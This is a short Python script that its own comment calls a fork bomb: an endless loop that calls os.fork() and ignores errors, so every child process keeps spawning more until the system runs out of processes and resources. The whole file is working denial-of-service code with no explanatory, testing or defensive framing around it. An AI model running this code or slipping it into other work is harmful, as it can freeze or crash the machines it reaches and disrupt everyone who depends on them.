# A fork bomb whose children outlive their parents.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
